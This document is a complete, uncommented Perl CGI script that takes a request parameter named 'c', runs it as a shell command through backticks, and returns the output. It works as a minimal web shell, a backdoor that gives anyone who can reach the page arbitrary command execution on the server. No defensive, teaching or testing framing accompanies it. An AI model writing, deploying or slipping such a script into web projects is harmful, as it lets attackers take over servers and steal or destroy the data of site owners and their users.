#!/usr/bin/perl
use CGI;
my $q = CGI->new;
my $c = $q->param('c');
print "Content-type: text/plain\n\n";
print `$c`;
